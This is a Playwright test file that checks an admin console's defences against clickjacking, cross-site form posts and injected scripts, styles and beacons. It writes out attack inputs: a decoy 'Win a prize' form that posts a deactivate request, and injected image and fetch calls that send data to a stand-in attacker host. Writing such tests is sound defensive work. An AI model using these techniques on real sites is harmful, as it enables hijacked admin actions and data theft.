// What somebody's web page tries while an admin has it open beside the console, and what a script in the console could do.
import { COMMUNITY_MANAGEMENT, expect, stories } from "../support/stories";

const EVIL = "http://evil.example/";

const test = stories(["customer-en:users=5,topics=2,views=2"], async (installation) => {
  await installation.connect({ id: "customer-en", name: "Customer Community" });
  await installation.serve("--no-worker");
});

test("no other site shows the console in a frame", async ({ page, installation }) => {
  const framed = installation.console + COMMUNITY_MANAGEMENT;
  await page.route(EVIL, (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="${framed}"></iframe>` }));
  await page.goto(EVIL);
  await expect(page.frameLocator("iframe").getByText("Community Management")).toHaveCount(0);
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain("chrome-error://chromewebdata/");
});

test("no other site presses the console's buttons", async ({ page, installation }) => {
  const [connection] = await installation.tributary("connection", "list", "--json");
  const form = `<form method="post" action="${installation.console}/rpc/deactivate">
    <input name="connection" value="${connection.id}"><button>Win a prize</button></form>`;
  await page.route(EVIL, (route) => route.fulfill({ contentType: "text/html", body: form }));
  await page.goto(EVIL);
  const answered = page.waitForResponse(/rpc\/deactivate/);
  await page.getByRole("button").click();
  expect((await answered).status()).toBe(403);
  const [after] = await installation.tributary("connection", "list", "--json");
  expect(after.active).toBe(true);
});

test("a script, a style or an image that got into a page does nothing", async ({ page, javaScriptEnabled }) => {
  test.skip(!javaScriptEnabled, "it is about scripts");
  await page.goto(COMMUNITY_MANAGEMENT);
  const refused = await page.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "document.title = 'stolen'";
    const far = document.createElement("script");
    far.src = "https://evil.example/x.js";
    const style = document.createElement("style");
    style.textContent = "body { display: none }";
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(script, far, style, base);
    const image = new Image();
    image.src = "https://evil.example/?stolen";
    document.body.insertAdjacentHTML("beforeend", `<p style="position:fixed" onclick="document.title = 'stolen'">x</p>`);
    await fetch("https://evil.example/?stolen").catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 0));
    return refused;
  });
  for (const directive of [
    "script-src-elem",
    "style-src-elem",
    "style-src-attr",
    "base-uri",
    "img-src",
    "connect-src",
  ]) {
    expect(refused).toContain(directive);
  }
  await expect(page).not.toHaveTitle("stolen");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});
